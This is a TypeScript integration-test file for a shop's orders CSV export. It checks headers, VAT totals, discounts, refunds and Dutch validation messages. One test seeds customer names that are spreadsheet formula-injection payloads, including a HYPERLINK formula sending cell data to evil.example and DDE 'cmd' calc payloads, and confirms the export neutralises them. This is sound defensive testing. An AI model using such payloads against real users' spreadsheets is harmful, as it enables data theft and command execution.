import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_MESSAGES, type AdminOrderView } from '@bestelklaar/domain';
import { SettableClock } from '../src/common/clock';
import { registerOwner, startTestApp, type TestApp } from './support/test-app';

const clock = new SettableClock('2030-07-02T10:00:00Z');
let t: TestApp;
let db: DataSource;
let owner: Awaited<ReturnType<typeof registerOwner>>;

/**
 * A paid order written as placing and paying leaves it; lines as [vat rate, cents paid, and what a
 * discount took off them (VAT included)].
 */
async function insertOrder(
  paidAt: string,
  lines: [number, number, number?][],
  name = 'Klant',
): Promise<string> {
  const id = randomUUID();
  const total = lines.reduce((sum, [, amount]) => sum + amount, 0);
  const discount = lines.reduce((sum, [, , off = 0]) => sum + off, 0);
  await db.query(
    `INSERT INTO orders (id, account_id, state, customer_name, customer_phone, customer_email,
       pickup_date, slot_start, slot_end, total_cents, discount_cents, fee_cents, holds_place, payment_provider,
       payment_account_id, payment_expires_at, created_at, paid_at)
     VALUES ($1, $2, 'paid', $3, '+32470123456', 'klant@voorbeeld.be', '2030-07-05', '12:00', '12:30', $4, $7,
       $5, true, 'sandbox', 'acct_test', $6, $6, $6)`,
    [id, owner.id, name, total, Math.round(total * 0.02), paidAt, discount],
  );
  for (const [position, [rate, amount, off = 0]] of lines.entries())
    await db.query(
      `INSERT INTO order_lines (account_id, order_id, position, item_id, item_kind, name, selected_options,
         option_lines, included_products, quantity, unit_price_cents, line_total_cents, vat_rate, discount_cents,
         customer_texts)
       VALUES ($1, $2, $3, $4, 'product', 'Item', '{}', '[]', '[]', 1, $5, $5, $6, $7,
         '{"name": "Item", "optionLines": [], "includedProducts": []}')`,
      [owner.id, id, position, randomUUID(), amount, rate, off],
    );
  return id;
}

async function settledRefund(orderId: string, amount: number, lines: object[]): Promise<void> {
  await db.query(
    `INSERT INTO refunds (id, account_id, order_id, amount_cents, lines, reason, status, created_at, settled_at)
     VALUES ($1, $2, $3, $4, $5, 'Terug', 'succeeded', now(), now())`,
    [randomUUID(), owner.id, orderId, amount, JSON.stringify(lines)],
  );
  await db.query('UPDATE orders SET refunded_cents = refunded_cents + $2 WHERE id = $1', [orderId, amount]);
}

const euros = (text: string) => Math.round(Number(text.replace(',', '.')) * 100);

beforeAll(async () => {
  t = await startTestApp({}, { clock });
  db = t.app.get(DataSource);
  owner = await registerOwner(t.http);
  // June in Brussels: the first order was paid on 1 June at 00:30 local time, the last on 30 June 23:30.
  await insertOrder(
    '2030-05-31T22:30:00Z',
    [
      [6, 1250],
      [21, 800],
    ],
    'Jan; "de Bakker"',
  );
  const cancelled = await insertOrder('2030-06-10T09:00:00Z', [[6, 900]]);
  const partly = await insertOrder('2030-06-20T09:00:00Z', [
    [6, 1000],
    [21, 1000],
    [12, 333],
  ]);
  await insertOrder('2030-06-30T21:30:00Z', [[21, 4999]]);
  await insertOrder('2030-06-30T22:30:00Z', [[6, 100]]); // 1 July in Brussels: outside June
  // These orders were never charged at a provider, so the cancel's own refund fails (and is left
  // out); the refunds the provider made are written as a settled refund leaves them.
  await t.http
    .post(`/api/admin/orders/${cancelled}/cancel`)
    .set(owner.auth)
    .send({ reason: 'Dicht' })
    .expect(200);
  await settledRefund(cancelled, 900, []);
  await settledRefund(partly, 1000, [{ position: 1, quantity: 1 }]);
  await settledRefund(partly, 200, []);
});
afterAll(async () => {
  await t.close();
});

/** The export's file, as bytes. */
async function download(query: string) {
  return t.http
    .get(`/api/admin/orders/export?${query}`)
    .set(owner.auth)
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    })
    .expect(200);
}

/** One table, read as strictly as csv-parse reads: a row of another length stops it. */
const table = (bytes: Buffer) => parse(bytes, { bom: true, delimiter: ';' }) as string[][];

/** Names that ran as formulas in Excel or LibreOffice when exported as they were. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
  '+32 470 12 34 56',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

describe('the orders export', () => {
  it('is a CSV Excel opens as it is, one rectangular table, and its figures add up with the VAT summary', async () => {
    const answer = await download('from=2030-06-01&to=2030-06-30');
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toContain('bestellingen-2030-06-01-tot-2030-06-30.csv');
    const bytes = answer.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const [header, ...orders] = table(bytes);
    expect(header).toEqual([
      'Bestelnummer',
      'Geplaatst',
      'Betaald',
      'Afhaaldag',
      'Tijdslot',
      'Klant',
      'Status',
      'Totaal',
      'Btw 6%',
      'Btw 12%',
      'Btw 21%',
      'Korting excl. btw',
      'Platformkosten',
      'Terugbetaald',
    ]);
    expect(orders).toHaveLength(4);
    const column = (name: string) => header.indexOf(name);
    expect(orders[0][column('Klant')]).toBe('Jan; "de Bakker"');
    expect(orders[0][column('Betaald')]).toBe('2030-06-01 00:30');
    expect(orders[1][column('Status')]).toBe('Geannuleerd — €\u00a09,00 terugbetaald');
    expect(orders[1][column('Terugbetaald')]).toBe('9,00');
    expect(orders[2][column('Terugbetaald')]).toBe('12,00');
    expect(orders[2][column('Btw 12%')]).toBe('0,36');

    const vat = await download('from=2030-06-01&to=2030-06-30&table=vat');
    expect(vat.headers['content-disposition']).toContain('btw-overzicht-2030-06-01-tot-2030-06-30.csv');
    const [summaryHeader, ...summary] = table(vat.body as Buffer);
    expect(summaryHeader).toEqual([
      'Btw-tarief',
      'Omzet incl. btw',
      'Btw',
      'Terugbetaald incl. btw',
      'Btw op terugbetalingen',
      'Netto incl. btw',
      'Netto btw',
    ]);
    const sum = (rows: string[][], index: number) =>
      rows.reduce((total, row) => total + euros(row[index]), 0);
    const [six, twelve, twentyOne, total] = summary;
    expect(summary.map((row) => row[0])).toEqual(['6%', '12%', '21%', 'Totaal']);
    // Sales per rate and in all are the orders' totals.
    expect(euros(total[1])).toBe(sum(orders, column('Totaal')));
    expect(euros(six[1])).toBe(1250 + 900 + 1000);
    expect(euros(twelve[1])).toBe(333);
    expect(euros(twentyOne[1])).toBe(800 + 1000 + 4999);
    // Each rate's VAT is the sum of the orders' own, rounded per order as on each receipt (summed
    // first, 6 % gave € 1,78 against the rows' € 1,79).
    expect(euros(six[2])).toBe(sum(orders, column('Btw 6%')));
    expect(euros(six[2])).toBe(71 + 51 + 57);
    expect(euros(twelve[2])).toBe(sum(orders, column('Btw 12%')));
    expect(euros(twentyOne[2])).toBe(sum(orders, column('Btw 21%')));
    expect(euros(total[2])).toBe(
      sum(orders, column('Btw 6%')) + sum(orders, column('Btw 12%')) + sum(orders, column('Btw 21%')),
    );
    // Refunded: the cancel (€ 9 at 6 %), the 21 % line (€ 10) and € 2 over the order's rates.
    expect(euros(total[3])).toBe(sum(orders, column('Terugbetaald')));
    expect(euros(total[3])).toBe(900 + 1000 + 200);
    expect(euros(six[3]) + euros(twelve[3]) + euros(twentyOne[3])).toBe(2100);
    for (const row of summary) expect(euros(row[5])).toBe(euros(row[1]) - euros(row[3]));
  });

  it('neutralises every customer name that a spreadsheet would run as a formula, and keeps it otherwise as typed', async () => {
    for (const [index, name] of FORMULA_NAMES.entries())
      await insertOrder(`2030-04-0${index + 1}T09:00:00Z`, [[6, 1000 + index]], name);
    const [header, ...rows] = table((await download('from=2030-04-01&to=2030-04-30')).body as Buffer);
    const names = rows.map((row) => row[header.indexOf('Klant')]);
    expect(names).toEqual(FORMULA_NAMES.map((name) => `'${name}`));
    // No other cell starts as a formula would; the amounts are numbers as the server wrote them.
    const amounts = new Set([
      'Totaal',
      'Btw 6%',
      'Btw 12%',
      'Btw 21%',
      'Korting excl. btw',
      'Platformkosten',
      'Terugbetaald',
    ]);
    for (const row of rows)
      for (const [index, cell] of row.entries()) {
        if (amounts.has(header[index])) expect(cell).toMatch(/^-?\d+,\d\d$/);
        else if (header[index] !== 'Klant') expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      }
  });

  it("gives 'Korting' as the mail and the order page do: without VAT, taken off", async () => {
    // € 14,00 at 6 % less a discount of € 0,84 with VAT, € 0,79 without it.
    const orderId = await insertOrder('2030-03-10T09:00:00Z', [[6, 1316, 84]]);
    const [header, row] = table((await download('from=2030-03-01&to=2030-03-31')).body as Buffer);
    const view = (await t.http.get(`/api/admin/orders/${orderId}`).set(owner.auth).expect(200))
      .body as AdminOrderView;
    expect(view.totals.discount).toBe(0.79);
    expect(row[header.indexOf('Korting excl. btw')]).toBe('-0,79');
    expect(row[header.indexOf('Totaal')]).toBe('13,16');
  });

  it('records the refund of an order never charged at a provider (a demo order) as failed, with why', async () => {
    const orderId = await insertOrder('2030-05-11T09:00:00Z', [[6, 500]]); // outside June's export
    const view = (
      await t.http
        .post(`/api/admin/orders/${orderId}/cancel`)
        .set(owner.auth)
        .send({ reason: 'Demo' })
        .expect(200)
    ).body as AdminOrderView;
    expect(view.status).toBe('cancelled');
    expect(view.refundedAmount).toBe(0);
    expect(view.refunds).toEqual([
      expect.objectContaining({
        status: 'failed',
        failureReason: 'Deze bestelling werd niet bij de betaalprovider betaald.',
      }),
    ]);
  });

  it.each([
    ['from=2030-06-01', 'Kies een datum (JJJJ-MM-DD).'],
    ['from=2030-06-30&to=2030-06-01', 'De einddatum ligt voor de begindatum.'],
    ['from=2029-01-01&to=2030-06-01', EXPORT_MESSAGES.rangeTooLong],
    ['from=2030-06-01&to=2030-06-30&table=summary', EXPORT_MESSAGES.tableInvalid],
  ])('refuses ?%s with a Dutch 400', async (query, message) => {
    const answer = await t.http.get(`/api/admin/orders/export?${query}`).set(owner.auth).expect(400);
    expect(answer.body.message).toBe(message);
  });
});
